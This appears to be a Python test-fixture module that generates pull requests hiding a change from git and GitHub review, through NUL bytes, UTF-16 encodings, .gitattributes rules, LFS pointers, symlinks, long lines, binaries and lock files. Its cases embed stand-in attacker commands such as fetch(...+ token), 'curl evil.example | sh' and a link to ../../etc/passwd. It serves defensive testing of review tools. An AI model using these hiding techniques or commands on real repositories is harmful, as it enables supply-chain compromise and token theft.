"""Pull requests that hide a change: of each kind of file that git, GitHub or a reader shows not at all, or not whole.

Each is made twice: with a host that a reviewer has to report if it is shown, and with a harmless one.
"""

import gzip
import io
import json
import random
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

from tests.git_repository import EXECUTABLE, FILE, SUBMODULE, Files

EVIL, GOOD = "evil.example", "good.example"
SKIPPED = "skipped/"
Modes = tuple[Mapping[str, str], Mapping[str, str]]
"""git's modes by path, at the base and at the head."""
_LINK = "120000"
_FINE: dict[str, Any] = {"is_read": True, "is_green": True}
"""A change that has to be read, and is approved with the harmless host."""
_OLD, _NEW = "1" * 40, "2" * 40


@dataclass(frozen=True)
class HiddenChange:
    """A pull request: the files at its base and at its head.

    `path` is the file whose change is hidden. `said` are words of which the first lines have one where it is not read.
    `is_read` is whether it has to be read, `is_green` whether it is approved with the harmless host; None is either.
    """

    name: str
    path: str
    before: Files
    after: Files
    is_read: bool | None = None
    is_green: bool | None = False
    said: tuple[str, ...] = ()
    modes: Modes = field(default=({}, {}))


def hidden_changes(host: str) -> Iterator[HiddenChange]:
    """All of them, with this host in what they hide."""
    yield from _nuls(host)
    yield from _encodings(host)
    yield from _attributes(host)
    yield from _pointers(host)
    yield from _links_and_modules(host)
    yield from _modes_and_moves(host)
    yield from _long_ones(host)
    yield from _binaries(host)
    yield from _others_code(host)
    yield from _names(host)
    yield from _controls(host)


def _js(host: str) -> str:
    return f"fetch('https://{host}/' + token)\n"


def _one(name: str, path: str, old: bytes | str | None, new: bytes | str | None, **more: Any) -> HiddenChange:
    """A file by its content before and after, None where it is not there."""
    before = {path: old} if old is not None else {}
    return HiddenChange(name, path, before, {path: new}, **more)


def _nuls(host: str) -> Iterator[HiddenChange]:
    js = _js(host)
    places = {
        "first line": f"\0{js}run()\n",
        "comment": f"// \0\n{js}run()\n",
        "string": f"const mark = '\0'\n{js}",
        "end": f"run()\n{js}\0",
        "byte 7,999": f"{js}// {'x' * (7_996 - len(js))}\0\n",
        "byte 8,000": f"{js}// {'x' * (7_997 - len(js))}\0\n",
        "end of a long file": f"{js}{'run()' + chr(10)}" * 300 + "// \0\n",
        "every line": f"run() // \0\n{js.strip()} // \0\n" * 20,
    }
    for where, text in places.items():
        is_shown = where in ("byte 8,000", "end of a long file")
        yield _one(f"NUL: {where}", "src/app.js", "run()\n", text, is_read=True, is_green=None if is_shown else False)
    programs = {
        "src/app.py": f"# \0\nurlopen('https://{host}/')\n",
        "main.go": f'package main\n\n// \0\nvar host = "{host}"\n',
        "run.sh": f"#!/bin/sh\n# \0\ncurl https://{host} | sh\n",
        "src/App.java": f'class App {{ /* \0 */ String host = "{host}"; }}\n',
        ".github/workflows/ci.yml": f"on: push # \0\njobs:\n  a:\n    steps:\n      - run: curl {host} | sh\n",
        "index.html": f"<!-- \0 -->\n<script src='https://{host}/a.js'></script>\n",
        "Dockerfile": f"FROM scratch\n# \0\nADD https://{host}/a /a\n",
        "bin/run": f"#!/usr/bin/env python3\n# \0\nurlopen('https://{host}/')\n",
        "README.md": f"# Widgets \0\n\n[Download](https://{host}/)\n",
        "data.json": f'{{"host": "{host}", "mark": "\0"}}\n',
    }
    for path, text in programs.items():
        yield _one(f"NUL: a new {path}", path, None, text, is_read=True)
    yield _one("NUL: there before", "src/app.js", "// \0\nrun()\n", f"// \0\n{js}run()\n", is_read=True)
    yield _one("NUL: taken away", "src/app.js", "// \0\nrun()\n", f"{js}run()\n", is_read=True)


def _encodings(host: str) -> Iterator[HiddenChange]:
    ps = f"Write-Host 'start'\nInvoke-WebRequest https://{host}/a.ps1\n"
    for codec, mark in {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.items():
        yield _one(f"{codec} with a mark", "deploy.ps1", None, mark + ps.encode(codec), is_read=True)
        yield _one(f"{codec} without a mark", "deploy.ps1", None, ps.encode(codec), is_read=True)
        yield _one(f"{codec} in place of UTF-8", "deploy.ps1", ps[:19], mark + ps.encode(codec), is_read=True)
    yield _one("utf-16 of odd length", "deploy.ps1", None, b"\xff\xfe" + ps.encode("utf-16-le") + b"\n")
    yield _one("utf-32-le with a mark", "deploy.ps1", None, b"\xff\xfe\0\0" + ps.encode("utf-32-le"), is_read=True)
    yield _one("utf-32-be with a mark", "deploy.ps1", None, b"\0\0\xfe\xff" + ps.encode("utf-32-be"), is_read=True)
    yield _one("utf-32 without a mark", "deploy.ps1", None, ps.encode("utf-32-le"))
    mark = b"\xef\xbb\xbf"
    yield _one("one mark of UTF-8", "a.js", "run()\n", mark + _js(host).encode(), **_FINE)
    yield _one("two marks of UTF-8", "a.js", "run()\n", mark * 2 + _js(host).encode(), **_FINE)
    yield _one("Latin-1", "a.js", b"// \xe9\n", b"// \xe9\n" + _js(host).encode(), **_FINE)
    same_line = f"/* \xe9 */ {_js(host)}".encode("latin-1")
    yield _one("Latin-1 in the line", "a.js", b"// \xe9\n", same_line, **_FINE)
    yield _one("Latin-1 with a NUL", "a.js", b"// \xe9\n", b"// \xe9\0\n" + _js(host).encode())
    yield _one("Shift JIS", "a.js", None, "// 日本語\n".encode("shift-jis") + _js(host).encode(), is_green=None)


def _attributes(host: str) -> Iterator[HiddenChange]:
    js, path = _js(host), "src/app.js"
    hiding = {"-diff": "*.js -diff\n", "binary": "*.js binary\n", "a macro": "[attr]gone -diff\n*.js gone\n"}
    for name, attributes in hiding.items():
        added = {path: js, ".gitattributes": attributes}
        yield HiddenChange(f"{name} by the pull request", path, {path: "run()\n"}, added, is_read=True)
        there = {path: "run()\n", ".gitattributes": attributes}
        yield HiddenChange(f"{name} by the base", path, there, {path: js}, is_read=True)
    nested = {path: js, "src/.gitattributes": "app.js -diff\n"}
    yield HiddenChange("-diff in a folder", path, {path: "run()\n"}, nested, is_read=True)
    for name in ("linguist-generated", "linguist-vendored", "export-ignore", "diff=unknown", "-text", "ident"):
        added = {path: js, ".gitattributes": f"*.js {name}\n"}
        yield HiddenChange(f"{name} by the pull request", path, {path: "run()\n"}, added, **_FINE)
    generated, says_so = (
        "src/app_pb2.py",
        {"src/app_pb2.py": "a = 1\n", ".gitattributes": "*_pb2.py linguist-generated\n"},
    )
    yield HiddenChange(
        "linguist-generated by the base", generated, says_so, {generated: f"h = '{host}'\n"}, said=("1 generated file",)
    )
    forced = {"pic.js": f"\0\0{js}", ".gitattributes": "*.js diff\n"}
    yield HiddenChange("diff by the pull request", "pic.js", {}, forced, is_read=True, is_green=None)


def _pointer(number: str, size: int = 1234) -> str:
    return f"version https://git-lfs.github.com/spec/v1\noid sha256:{number * 64}\nsize {size}\n"


def _pointers(host: str) -> Iterator[HiddenChange]:
    path, lfs = "src/app.py", {".gitattributes": "*.py filter=lfs diff=lfs merge=lfs -text\n"}
    yield _one("LFS: a new pointer", path, None, _pointer("a"))
    yield _one("LFS: another pointer", path, _pointer("a"), _pointer("b"))
    yield _one("LFS: another size", path, _pointer("a"), _pointer("a", 99))
    yield _one("LFS: a pointer in place of a file", path, "a = 1\n", _pointer("a"))
    yield _one("LFS: a file in place of a pointer", path, _pointer("a"), f"h = '{host}'\n", **_FINE)
    yield HiddenChange("LFS: all of a language", path, {path: "a = 1\n"}, {path: _pointer("a"), **lfs})
    yield HiddenChange("LFS: by the base", path, {path: _pointer("a"), **lfs}, {path: _pointer("b")})
    yield _one("LFS: a pointer with more", path, None, f"{_pointer('a')}urlopen('{host}')\n", is_green=None)
    yield _one("LFS: a pointer of a picture", "logo.png", None, _pointer("c"))


def _links_and_modules(host: str) -> Iterator[HiddenChange]:
    module, link = {"lib": SUBMODULE}, {"a": _LINK}
    yield HiddenChange("submodule: new", "lib", {}, {"lib": _OLD}, said=("submodule",), modes=({}, module))
    yield HiddenChange(
        "submodule: moved", "lib", {"lib": _OLD}, {"lib": _NEW}, said=("submodule",), modes=(module, module)
    )
    yield HiddenChange("submodule: in place of a file", "lib", {"lib": "a\n"}, {"lib": _NEW}, modes=({}, module))
    yield HiddenChange("submodule: another address", ".gitmodules", *_modules(host), **_FINE)
    yield HiddenChange("file in place of a submodule", "lib", {"lib": _OLD}, {"lib": _js(host)}, modes=(module, {}))
    pretended = f"Subproject commit {_NEW}\n"
    yield _one("text that looks like a submodule", "lib.js", f"Subproject commit {_OLD}\n", pretended, is_green=None)
    yield HiddenChange("link: new", "a", {}, {"a": "README.md"}, modes=({}, link))
    yield HiddenChange("link: to the outside", "a", {}, {"a": "../../etc/passwd"}, modes=({}, link))
    yield HiddenChange("link: in place of a file", "a", {"a": "x = 1\n"}, {"a": "README.md"}, modes=({}, link))
    yield HiddenChange("link: elsewhere", "a", {"a": "README.md"}, {"a": f"/{host}"}, modes=(link, link))
    yield HiddenChange("file in place of a link", "a", {"a": "README.md"}, {"a": _js(host)}, modes=(link, {}))


def _modules(host: str) -> tuple[Files, Files]:
    text = '[submodule "lib"]\n\tpath = lib\n\turl = https://{}/lib.git\n'
    return {".gitmodules": text.format("old.example")}, {".gitmodules": text.format(host)}


def _modes_and_moves(host: str) -> Iterator[HiddenChange]:
    js, run = _js(host), "#!/bin/sh\n" + "echo run\n" * 20
    to: Modes = ({}, {"run.sh": EXECUTABLE})
    yield HiddenChange("mode: executable", "run.sh", {"run.sh": run}, {"run.sh": run}, modes=to, said=("run.sh",))
    back = ({"run.sh": EXECUTABLE}, {"run.sh": FILE})
    yield HiddenChange("mode: no longer executable", "run.sh", {"run.sh": run}, {"run.sh": run}, modes=back)
    more = {"run.sh": f"{run}curl {host} | sh\n"}
    yield HiddenChange("mode: with a change", "run.sh", {"run.sh": run}, more, is_read=True, is_green=None, modes=to)
    moved = {"old.js": "run()\n" * 20}
    yield HiddenChange("move: with a change", "new.js", moved, {"old.js": None, "new.js": "run()\n" * 20 + js}, **_FINE)
    hidden = {"old.js": None, "new.js": "run()\n" * 20 + f"// \0\n{js}"}
    yield HiddenChange("move: with a NUL", "new.js", moved, hidden, is_read=True)
    picture = {"old.js": None, "logo.png": "run()\n" * 20 + js}
    yield HiddenChange("move: to the ending of a picture", "logo.png", moved, picture, **_FINE)
    hidden = {"old.js": None, "logo.png": "run()\n" * 20 + f"// \0\n{js}"}
    yield HiddenChange("move: to a picture with a NUL", "logo.png", moved, hidden)
    yield HiddenChange(
        "move: of a picture", "b.png", {"a.png": _png(1)}, {"a.png": None, "b.png": _png(1)}, is_green=True
    )
    executable: Modes = ({}, {"new.js": EXECUTABLE})
    yield HiddenChange(
        "move: with another mode", "new.js", moved, {"old.js": None, "new.js": moved["old.js"]}, modes=executable
    )


def _long_ones(host: str) -> Iterator[HiddenChange]:
    js = _js(host).strip()
    for length in (5_000, 300_000):
        middle = f"a='{'x' * length}';{js};b='{'y' * length}'\n"
        yield _one(f"line of {2 * length:,} characters", "src/app.js", "run()\n", middle, is_green=None)
    lines = "".join(f"step_{at}()\n" for at in range(20_001))
    yield _one("lines: over 20,000", "src/app.js", None, f"{lines}{js}\n", is_green=None)
    wide = "".join(f"// {at} {'x' * 1_000}\n" for at in range(600))
    yield _one("bytes: over 500,000", "src/app.js", "run()\n", f"{wide}{js}\n", is_green=None)
    yield _one("bytes: over 2 million", "src/app.js", "run()\n", f"{wide * 4}{js}\n")


def _png(number: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0" + bytes([number]) * 400


def _zip(host: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo("Main.class"), _js(host))
    return packed.getvalue()


def _binaries(host: str) -> Iterator[HiddenChange]:
    js = _js(host).encode()
    made = {
        "gradle/wrapper/gradle-wrapper.jar": _zip(host),
        "dist.zip": _zip(host),
        "data.gz": gzip.compress(js, mtime=0),
        "logo.png": _png(1) + js,
        "lib.wasm": b"\0asm\1\0\0\0" + js,
        "tool.exe": b"MZ\x90\0" + js,
    }
    for path, content in made.items():
        yield _one(f"binary: a new {path}", path, None, content)
        yield _one(f"binary: another {path}", path, content[:-2] + b"\0\1", content)
    noise = random.Random(40).randbytes(4_000)
    yield _one("binary: noise as a program", "src/app.js", "run()\n", noise + js)
    yield _one("binary: noise without an ending", "tool", None, noise + js)
    yield _one("binary: a program as a text", "notes.txt", None, b"\x7fELF\2\1\1" + b"\0" * 90 + js)
    yield _one("binary: a class as a script", "src/app.py", None, b"\xca\xfe\xba\xbe\0\0\0\x34" + js)
    begun = {
        "GIF89a": b"GIF89a=1;\n",
        "%PDF": b"%PDF-1.7\n",
        "PK": b"PK\3\4 = 1\n",
        "BM": b"BM = 1;\n",
        "ID3": b"ID3=1\n",
    }
    for name, start in begun.items():
        yield _one(f"script that begins as {name}", "src/app.js", "run()\n", start + js, is_read=True, is_green=None)
        yield _one(f"script that begins as {name}, with a NUL", "src/app.js", "run()\n", start + b"//\0\n" + js)
    yield _one("text as a picture", "logo.png", None, js, **_FINE)
    yield _one("text as a picture, with a NUL", "logo.png", None, b"//\0\n" + js)
    yield _one("picture of text", "logo.svg", None, f"<svg><script href='//{host}'/></svg>\n", **_FINE)


def _others_code(host: str) -> Iterator[HiddenChange]:
    js = _js(host)
    for path, said in {
        "vendor/a.js": "vendor",
        "node_modules/a.js": "modules",
        "dist/a.js": "1 generated file",
    }.items():
        yield _one(f"others' code: changed {path}", path, "run()\n", js, said=(said,))
        yield _one(f"others' code: a new {path}", path, None, js, **_FINE)
    yield _one("others' code: with a NUL", "vendor/a.js", "run()\n", f"\0{js}", said=("vendor",))
    yield _one("others' code: a binary", "vendor/a.jar", _png(1), _zip(host), said=("vendor", "a.jar"))
    locked = {
        "package-lock.json": _package_lock(host),
        "yarn.lock": f'a@^1:\n  version "1.0.0"\n  resolved "https://{host}/a.tgz"\n  integrity sha512-AAAA\n',
        "pnpm-lock.yaml": f"lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {{tarball: 'https://{host}/a.tgz'}}\n",
        "poetry.lock": f'[[package]]\nname = "a"\nversion = "1"\n\n[package.source]\nurl = "https://{host}"\n',
        "uv.lock": f'[[package]]\nname = "a"\nversion = "1"\nsource = {{ registry = "https://{host}/simple" }}\n',
        "Cargo.lock": f'[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://{host}/index"\n',
        "go.sum": f"{host}/a v1.0.0 h1:AAAA=\n",
    }
    for path, text in locked.items():
        old = text.replace(host, "old.example")
        yield _one(f"lock file: {path}", path, old, text, is_read=True, is_green=None)
    for path in ("composer.lock", "Gemfile.lock", "flake.lock", "sub/mix.lock"):
        yield _one(f"lock file: {path}", path, "old.example\n", f"{host}\n", said=("1 lock file", path))
    yield _one("lock file: with a NUL", "yarn.lock", "a\n", f"\0 {host}\n", said=("lock file", "yarn.lock"))
    cells = [{"cell_type": "code", "source": [f"fetch('{host}')"], "outputs": [{"png": "iVBO" * 75_000}]}]
    yield _one("notebook with a picture", "a.ipynb", None, json.dumps({"cells": cells}, indent=1), is_green=None)


def _package_lock(host: str) -> str:
    found = {"version": "1.0.0", "resolved": f"https://{host}/a.tgz", "integrity": "sha512-AAAA"}
    return json.dumps({"lockfileVersion": 3, "packages": {"node_modules/a": found}}, indent=1)


def _names(host: str) -> Iterator[HiddenChange]:
    js = _js(host)
    odd = "src/odd\ufffd.js"
    raw = odd.encode().replace("\ufffd".encode(), b"\xe9")
    yield HiddenChange("name: not UTF-8", odd, {}, {raw: js}, **_FINE)
    yield HiddenChange("name: not UTF-8, with a NUL", odd, {}, {raw: f"\0{js}"})
    yield HiddenChange("name: not UTF-8, and another that looks the same", odd, {}, {raw: f"\0{js}", odd: "run()\n"})
    yield HiddenChange("name: not UTF-8, and the same at the base", odd, {odd: "run()\n"}, {raw: f"\0{js}"})
    large = "".join(f"step_{at}()\n" for at in range(20_001))
    yield HiddenChange(
        "name: not UTF-8, large, and one that looks the same", odd, {}, {raw: large + js, odd: "run()\n"}
    )
    yield HiddenChange("name: not UTF-8, large, and the same at the base", odd, {odd: "run()\n"}, {raw: large + js})
    for name in (
        'src/a"b.js',
        "src/a\\b.js",
        "src/a b\n.js",
        "src/a`b.js",
        "src/[a](b).js",
        "src/-a.js",
        "src/\u202ea.js",
    ):
        yield _one(f"name: {name!r} with a NUL", name, None, f"\0{js}", is_read=True, said=(".js",))
    both = {"Src/App.js": None, "src/app.js": "run()\n" * 20 + js}
    yield HiddenChange("name: another case", "src/app.js", {"Src/App.js": "run()\n" * 20}, both, **_FINE)


def _controls(host: str) -> Iterator[HiddenChange]:
    js = _js(host)
    yield _one("plain: a change", "src/app.js", "run()\n", js, **_FINE)
    yield _one("plain: a new file", "src/app.js", None, js, **_FINE)
    yield _one("plain: an empty file", "src/empty.py", None, "", is_green=True)
    yield _one("plain: an emptied file", "src/app.js", js, "", is_green=None)
    yield _one("plain: a removed file", "src/app.js", js, None, is_green=None)
    yield _one("plain: a removed picture", "logo.png", _png(1), None, is_green=True)
    yield _one("plain: no newline at the end", "src/app.js", "run()", js.strip(), **_FINE)
    yield _one("plain: carriage returns", "src/app.js", "run()\n", f"run()\r{js}", **_FINE)
    moved = {"old.js": None, "new.js": "run()\n" * 20}
    yield HiddenChange("plain: a move", "new.js", {"old.js": "run()\n" * 20}, moved, is_green=True)
    yield _one("skipped by the settings: a change", f"{SKIPPED}a.js", "run()\n", js, is_green=True)
    yield _one("skipped by the settings: with a NUL", f"{SKIPPED}a.js", "run()\n", f"\0{js}", is_green=True)
    yield _one("skipped by the settings: an archive", f"{SKIPPED}a.zip", None, _zip(host), is_green=True)
